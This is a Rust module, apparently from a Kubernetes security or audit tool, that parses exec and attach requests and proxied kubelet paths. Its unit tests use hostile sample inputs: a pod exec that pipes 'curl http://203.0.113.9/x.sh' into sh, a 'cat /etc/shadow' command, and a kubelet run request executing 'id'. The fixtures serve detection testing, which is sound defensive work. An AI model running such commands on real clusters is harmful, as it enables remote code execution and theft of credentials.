//! What only the request URI tells: the command of an exec, the tail of a proxied request.

use std::borrow::Cow;

use percent_encoding::percent_decode_str;

use crate::rule::view::Unknown;
use crate::tree::Tree;

/// The parameters of an exec or attach.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct Exec {
    pub args: Vec<String>,
    /// The arguments joined by blanks.
    pub command: String,
    pub container: Option<String>,
    pub stdin: bool,
    pub tty: bool,
    /// Why the event does not tell the command; `None` where it does, or there is none to tell.
    pub hidden: Option<Unknown>,
}

fn decode(text: &str) -> String {
    let plus: Cow<'_, str> = if text.contains('+') { text.replace('+', " ").into() } else { text.into() };
    percent_decode_str(&plus).decode_utf8_lossy().into_owned()
}

fn query(uri: &str) -> impl Iterator<Item = (&str, &str)> {
    let query = uri.split_once('?').map_or("", |(_, q)| q);
    query.split('&').filter(|p| !p.is_empty()).map(|pair| pair.split_once('=').unwrap_or((pair, "")))
}

/// Path without the query.
pub fn path(uri: &str) -> &str {
    uri.split(['?', '#']).next().unwrap_or_default()
}

/// Reads the query of an exec, attach or kubelet exec request.
pub fn exec(uri: &str) -> Exec {
    let mut e = Exec::default();
    let yes = |v: &str| matches!(v, "true" | "1");
    for (key, value) in query(uri) {
        match key {
            "command" | "cmd" => e.args.push(decode(value)),
            "container" => e.container = Some(decode(value)),
            "stdin" | "input" => e.stdin |= yes(value),
            "tty" => e.tty |= yes(value),
            _ => {}
        }
    }
    e.command = e.args.join(" ");
    e
}

/// Reads `PodExecOptions` and its siblings.
pub fn exec_of_body(options: &Tree<'_>) -> Exec {
    let yes = |key: &str| options.get(key).and_then(Tree::as_bool) == Some(true);
    let args: Vec<String> = options.each("command").filter_map(Tree::as_str).map(str::to_owned).collect();
    Exec {
        command: args.join(" "),
        args,
        container: options.get("container").and_then(Tree::as_str).map(str::to_owned),
        stdin: yes("stdin"),
        tty: yes("tty"),
        hidden: None,
    }
}

/// A request that the API server passes on to a node, pod or service.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct Proxy {
    /// What follows `/proxy`, decoded, with the slashes of the sender; `/` when nothing does.
    pub path: String,
    /// The port named in `name:port` or `scheme:name:port`.
    pub port: Option<String>,
    /// One of the kubelet's endpoints that run or join processes.
    pub kubelet: bool,
}

/// Reads the tail of `…/{nodes|pods|services}/{name}/proxy/…`.
pub fn proxy(uri: &str, resource: &str) -> Proxy {
    let whole = path(uri);
    let Some((before, tail)) = whole.split_once("/proxy") else { return Proxy::default() };
    let name = decode(before.rsplit('/').next().unwrap_or_default());
    let parts: Vec<&str> = name.split(':').collect();
    let port = match parts.as_slice() {
        [_, port] | [_, _, port] if !port.is_empty() => Some((*port).to_owned()),
        _ => None,
    };
    let path = if tail.is_empty() { "/".to_owned() } else { decode(tail) };
    let first = path.split('/').find(|s| !s.is_empty() && *s != ".").unwrap_or_default().to_lowercase();
    let kubelet = resource == "nodes" && matches!(first.as_str(), "run" | "exec" | "attach" | "portforward" | "cri");
    Proxy { path, port, kubelet }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn commands_are_decoded_in_order() {
        let e = exec(
            "/api/v1/namespaces/web/pods/p/exec?command=sh&command=-c&command=curl+http%3A%2F%2F203.0.113.9%2Fx.sh+%7C+sh&container=c&stdin=true&tty=true&stdout=true",
        );
        assert_eq!(e.args, ["sh", "-c", "curl http://203.0.113.9/x.sh | sh"]);
        assert_eq!(e.command, "sh -c curl http://203.0.113.9/x.sh | sh");
        assert!(e.stdin && e.tty);
        assert_eq!(e.container.as_deref(), Some("c"));
        assert_eq!(exec("/no/query"), Exec::default());
    }

    #[test]
    fn options_in_a_body_are_the_same() {
        let body = serde_json::json!({"kind": "PodExecOptions", "command": ["cat", "/etc/shadow"], "container": "c", "tty": true});
        let same = exec("/x?command=cat&command=%2Fetc%2Fshadow&container=c&tty=true");
        assert_eq!(exec_of_body(&body.into()), same);
        assert_eq!(exec_of_body(&serde_json::json!(["no", "object"]).into()), Exec::default());
    }

    #[test]
    fn bytes_that_are_no_text_do_not_hide_the_rest() {
        assert_eq!(exec("/x?command=a%ff%00b&command=c").args, ["a\u{fffd}\0b", "c"]);
    }

    #[test]
    fn proxied_paths() {
        let p = proxy("/api/v1/nodes/worker-1:10250/proxy/run/web/p/c?cmd=id&metrics", "nodes");
        assert_eq!((p.path.as_str(), p.port.as_deref(), p.kubelet), ("/run/web/p/c", Some("10250"), true));
        let p = proxy("/api/v1/nodes/worker-1/proxy/metrics/cadvisor", "nodes");
        assert_eq!((p.path.as_str(), p.kubelet), ("/metrics/cadvisor", false));
        let p = proxy("/api/v1/nodes/worker-1/proxy//EXEC/a", "nodes");
        assert!(p.kubelet);
        let p = proxy("/api/v1/namespaces/d/services/https:dash:443/proxy/", "services");
        assert_eq!((p.path.as_str(), p.port.as_deref(), p.kubelet), ("/", Some("443"), false));
        assert_eq!(proxy("/api/v1/nodes/n/proxy", "nodes").path, "/");
    }
}
